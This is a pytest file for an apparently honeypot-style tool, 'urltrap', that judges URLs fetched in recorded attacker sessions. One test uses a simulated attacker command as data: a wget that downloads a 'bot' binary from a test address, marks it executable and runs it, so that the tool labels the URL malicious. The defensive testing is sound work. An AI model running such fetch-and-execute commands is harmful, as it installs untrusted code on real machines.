from __future__ import annotations

from pathlib import Path

import pytest
from sqlalchemy import update
from tests.ops.test_intel_commands import as_json, run
from tests.pipeline.conftest import ELF, Bench

from urltrap.ops.cli.common import CommandError
from urltrap.ops.init import init_data_folder
from urltrap.store import open_store
from urltrap.store.schema import urls, verdicts
from urltrap.store.schema_analysis import beliefs
from urltrap.store.types import from_micros


@pytest.fixture
def data(tmp_path: Path) -> Path:
    init_data_folder(tmp_path / "data")
    return tmp_path / "data"


def test_judging_again_says_what_to_ask_for_and_copes_with_an_empty_store(data: Path) -> None:
    done = run("judge", "--data", data)
    assert isinstance(done.exception, CommandError) and "--replay" in str(done.exception)
    assert as_json("judge", "--replay", "--data", data) == []
    assert "nothing to judge" in run("judge", "--replay", "--data", data).output


def test_judging_again_tells_what_became_of_each_verdict(data: Path) -> None:
    url = "http://198.51.100.9/bot"
    bench = Bench(data, testing={"public_networks": ["198.51.100.0/24"]})
    bench.fetcher.bodies[url] = ELF
    session = bench.visit(b"wget %s -O bot; chmod +x bot; ./bot" % url.encode(), runs=[[b"./bot"]])
    bench.trap_fetches(url.encode(), session)
    bench.settle()
    with bench.store.begin() as connection:
        connection.execute(update(urls).values(verdict="unknown"))
        connection.execute(update(verdicts).values(verdict="unknown", rules="1"))
    bench.close()
    moved = {"before": "unknown", "now": "malicious-observed", "urls": 1}
    assert as_json("judge", "--replay", "--data", data) == [moved]
    shown = run("judge", "--replay", "--data", data).output
    assert "malicious-observed" in shown and "the same" in shown


def test_answers_that_drove_attackers_away_are_shown_with_control_characters_visible(data: Path) -> None:
    store = open_store(str(data / "urltrap.db"))
    rows = [
        {"session": f"s{n}", "seq": 1, "name": "processor", "at": from_micros(n), "answer": b"\x1b[31m1\r\n",
         "answer_sha256": "a" * 64, "afterwards": "left" if n else "went-on", "after_ms": 1500, "commands_left": 0}
        for n in range(3)
    ]  # fmt: skip
    with store.begin() as connection:
        connection.execute(beliefs.insert(), rows)
    store.close()
    (row,) = as_json("gaps", "--belief", "--data", data)
    assert (row["check"], row["asked"], row["left"], row["seconds"]) == ("processor", 3, 2, 1.5)
    done = run("gaps", "--belief", "--data", data)
    assert done.exit_code == 0 and "processor" in done.output and "\x1b[31m" not in done.output
